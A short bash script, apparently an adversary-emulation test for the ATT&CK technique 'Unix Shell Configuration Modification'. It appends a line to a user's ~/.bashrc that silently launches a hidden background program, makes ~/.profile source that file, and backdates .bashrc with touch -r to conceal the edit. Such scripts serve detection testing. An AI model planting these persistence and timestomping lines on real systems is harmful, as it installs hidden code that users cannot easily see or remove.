#!/bin/bash
# technique: T1546.004 Event Triggered Execution: Unix Shell Configuration Modification
# tactic: persistence
# user: alice
# does: has every new shell of a user start a hidden program in the background
# harmless: only files of the sandbox; the program does not exist

echo '(/home/alice/.config/.update &) 2>/dev/null' >>~/.bashrc
echo '. ~/.bashrc' >>~/.profile
touch -r /etc/profile ~/.bashrc
